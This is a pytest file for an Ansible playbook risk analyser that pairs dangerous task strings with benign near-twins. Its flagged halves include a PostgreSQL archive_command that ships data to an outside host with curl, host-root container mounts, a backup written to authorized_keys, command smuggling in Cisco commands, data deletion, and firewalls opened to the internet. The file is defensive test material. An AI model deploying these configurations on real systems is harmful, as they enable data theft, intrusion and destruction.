"""Modules whose deed nobody wrote down: each task is stopped, and its near twin, which does less, is not."""

from __future__ import annotations

import pytest

from scriptsmith.ansible.analysis import analyse_playbook

_PODMAN = "containers.podman.podman_container: {name: a, image: docker.io/a:1, state: started, %s}"
_SET = "community.postgresql.postgresql_set: {name: %s}"
_IOS = "cisco.ios.ios_config: {%s}"
_SHOW = "cisco.ios.ios_command: {commands: [%s]}"
_PRIVS = "community.postgresql.postgresql_privs: {login_db: a, %s, state: present}"
_AZURE = (
    "azure.azcollection.azure_rm_securitygroup: {resource_group: a, name: b, rules: [{name: c, protocol: Tcp, "
    "destination_port_range: 22, access: Allow, priority: 101, direction: Inbound%s}]}"
)
_GCP = (
    "google.cloud.gcp_compute_firewall: {name: a, allowed: [{ip_protocol: tcp, ports: ['22']}], source_ranges: [%s], "
    "project: p, auth_kind: application, state: present}"
)
_GROUP = (
    "amazon.aws.ec2_security_group: {name: a, description: b, vpc_id: c, state: present, "
    "rules: [{proto: tcp, ports: [22], cidr_ip: %s}]}"
)
_RECORD = "amazon.aws.route53: {state: present, zone: example.org, record: %s, type: A, value: 192.0.2.1%s}"
_KEYCLOAK = "community.general.keycloak_client: {client_id: a, redirect_uris: ['%s'], state: present}"
_URI = "ansible.windows.win_uri: {url: 'https://a.example/health', status_code: 200%s}"
_TASK = "community.windows.win_scheduled_task: {name: a, actions: [{path: %s}], state: present}"
_SET_OF_VMS = "azure.azcollection.azure_rm_virtualmachinescaleset: {resource_group: a, name: b, %s}"
_DNS = "community.general.cloudflare_dns: {zone: example.org, type: %svalue: a.example, state: present}"
_VM = "community.vmware.vmware_vswitch: {hostname: a, switch: b, %s}"
TWINS = (
    (_PODMAN % "device: ['/dev/sda:/dev/sda']", _PODMAN % "device: ['/dev/ttyUSB0']"),
    (_PODMAN % "mount: ['type=bind,source=/,target=/host']", _PODMAN % "mount: ['type=bind,source=/srv/a,target=/a']"),
    (_PODMAN % "cmd_args: ['-v', '/:/host', '--privileged']", _PODMAN % "cmd_args: ['--log-level=info']"),
    (_PODMAN % "security_opt: [label=disable]", _PODMAN % "security_opt: [no-new-privileges]"),
    (_PODMAN % "pid: host", _PODMAN % "pids_limit: 100"),
    (_SET % "archive_command, value: 'curl -T %p https://x.example/'", _SET % "work_mem, value: 64MB"),
    (_SET % "session_preload_libraries, value: /tmp/a.so", _SET % "shared_buffers, reset: true"),
    (_SET % "default_transaction_read_only, value: 'on'", _SET % "log_lock_waits, value: 'on'"),
    (_SET % "hba_file, value: /tmp/hba", _SET % "log_min_duration_statement, value: 500ms"),
    (_SET % "autovacuum, value: 'off'", _SET % "random_page_cost, value: '1.1'"),
    (_SET % "max_connections, value: '1'", _SET % "checkpoint_timeout, value: 15min"),
    (_PRIVS % "roles: PUBLIC, objs: a, privs: SELECT", _PRIVS % "roles: reports, objs: a, privs: SELECT"),
    (
        _PRIVS % "type: group, objs: pg_execute_server_program, roles: a",
        _PRIVS % "type: group, objs: reports, roles: a",
    ),
    (_AZURE % "", _AZURE % ", source_address_prefix: 10.1.0.0/16"),
    (_AZURE % ", source_address_prefix: 128.0.0.0/1", _AZURE % ", source_address_prefix: 10.1.2.3"),
    (_GCP % "0.0.0.0/1, 128.0.0.0/1", _GCP % "10.0.0.0/8"),
    (_GROUP % "0.0.0.0/1", _GROUP % "10.0.0.0/8"),
    (_RECORD % ("example.org", ", overwrite: true"), _RECORD % ("new.example.org", "")),
    (_KEYCLOAK % "https://*", _KEYCLOAK % "https://shop.example/*"),
    (_URI % ", method: DELETE", _URI % ", method: GET"),
    (_URI % ", dest: 'C:\\a.exe'", _URI % ", return_content: true"),
    (_TASK % "powershell.exe", _TASK % "'C:\\app\\rotate.exe'"),
    (
        "azure.azcollection.azure_rm_keyvaultsecret: {keyvault_uri: 'https://a', secret_name: b, secret_value: '{{ p }}'}",
        "azure.azcollection.azure_rm_keyvaultsecret_info: {vault_uri: 'https://a', name: b}",
    ),
    (
        "community.hashi_vault.vault_kv2_delete: {url: 'https://v', path: prod/db, versions: [1]}",
        "community.hashi_vault.vault_kv2_get: {url: 'https://v', path: prod/db}",
    ),
    (
        "community.windows.win_firewall_rule: {name: a, localport: '22', action: allow, direction: in, protocol: tcp, "
        "remoteip: '0.0.0.0/1,128.0.0.0/1', state: present, enabled: true}",
        "ansible.windows.win_service_info: {name: a}",
    ),
    (
        "amazon.aws.iam_policy: {iam_type: role, iam_name: a, policy_name: b, state: present, policy_json: '{\"Statement\": "
        '[{"Effect": "Allow", "Action": "secretsmanager:GetSecretValue", "Resource": "*"}]}\'}',
        "amazon.aws.iam_policy_info: {iam_type: role, iam_name: a}",
    ),
    ("ansible.windows.win_shell: return Remove-Item -Recurse D:\\Data", "ansible.windows.win_stat: {path: 'D:\\Data'}"),
    ("ansible.windows.win_shell: 7z d D:\\Data\\a.zip *", "ansible.windows.win_file: {path: 'D:\\a', state: directory}"),
    (
        "ansible.windows.win_service: {name: MSSQLSERVER, state: stopped, start_mode: disabled}",
        "ansible.windows.win_service: {name: AppPortal, state: started}",
    ),
    (
        "ansible.windows.win_service: {name: a, path: 'C:\\Temp\\a.exe', state: started}",
        "ansible.windows.win_service: {name: a, state: started, start_mode: auto}",
    ),
    (
        "ansible.windows.win_regedit: {path: 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinRM', name: Start, data: 4}",
        "ansible.windows.win_reg_stat: {path: 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinRM', name: Start}",
    ),
    (_IOS % "parents: interface range Gi1/0/1 - 48, lines: [description a]", _IOS % "parents: interface Gi1/0/1, lines: [description a]"),
    (_IOS % "parents: interface Vlan1, lines: [mtu 68]", _IOS % "parents: interface Vlan1, lines: [description a]"),
    (_IOS % "lines: [], defaults: true", _IOS % "backup: true"),
    (_IOS % "backup: true, backup_options: {filename: /root/.ssh/authorized_keys}", _IOS % "backup: true, backup_options: {filename: a.cfg}"),
    (_IOS % 'lines: ["description a\\nshutdown"]', _IOS % "lines: [ntp server 10.0.0.1]"),
    (_IOS % "parents: interface Gi1/0/1, lines: ['{{ line }}']", _IOS % "parents: interface Gi1/0/1, lines: [no shutdown]"),
    (_SHOW % "'show running-config | redirect flash:a'", _SHOW % "'show running-config | include hostname'"),
    (_SHOW % "'show version && reload'", _SHOW % "show version"),
    (_SHOW % "'show {{ what }}'", _SHOW % "'show vlan id 140'"),
    (
        "cisco.ios.ios_bgp_global: {state: merged, config: {as_number: '65000', shutdown: {set: true}}}",
        "cisco.ios.ios_bgp_global: {state: gathered}",
    ),
    (_SET_OF_VMS % "capacity: 0", _SET_OF_VMS % "capacity: 3"),
    ("community.windows.win_psexec: {hostnames: [a], command: whoami}", "ansible.windows.win_find: {paths: ['C:\\a']}"),
    (
        "azure.azcollection.azure_rm_virtualmachineextension: {resource_group: a, name: b, virtual_machine_name: c}",
        "azure.azcollection.azure_rm_virtualmachine_info: {resource_group: a, name: b}",
    ),
    (
        "community.general.keycloak_realm_rolemapping: {realm: a, group_name: b, roles: [{name: c}]}",
        "community.general.keycloak_realm_info: {auth_keycloak_url: 'https://a', realm: b}",
    ),
    (_DNS % "MX, record: www, ", _DNS % "A, record: www, "),
    (_DNS % "A, record: '@', ", _DNS % "CNAME, record: shop, "),
    ("ansible.windows.win_share: {name: a, path: 'D:\\a', full: 'CORP\\Domain Users'}", "ansible.windows.win_share: {name: a, path: 'D:\\a', read: 'CORP\\GG-Shop'}"),
    ("community.zabbix.zabbix_host: {host_name: a, status: disabled}", "community.zabbix.zabbix_host: {host_name: a, status: enabled}"),
    (
        "azure.azcollection.azure_rm_virtualmachine: {resource_group: a, name: b, started: false}",
        "azure.azcollection.azure_rm_virtualmachine: {resource_group: a, name: b, started: true}",
    ),
    (_VM % "state: '{{ s }}'", _VM % "state: present"),
)  # fmt: skip


def risk(task: str) -> str:
    """What a play with that one task is judged as."""
    return analyse_playbook(f"- hosts: web\n  tasks:\n    - {task}\n").risk


@pytest.mark.parametrize("task", [stopped for stopped, _ in TWINS])
def test_what_harms_or_cannot_be_told_is_stopped(task: str) -> None:
    """Nothing passes because of a name that sounds harmless."""
    assert risk(task) in ("dangerous", "unanalysable")


@pytest.mark.parametrize("task", [passes for _, passes in TWINS])
def test_the_near_twin_passes(task: str) -> None:
    """One option, value or word less, and nothing stops it."""
    assert risk(task) in ("safe", "notable")
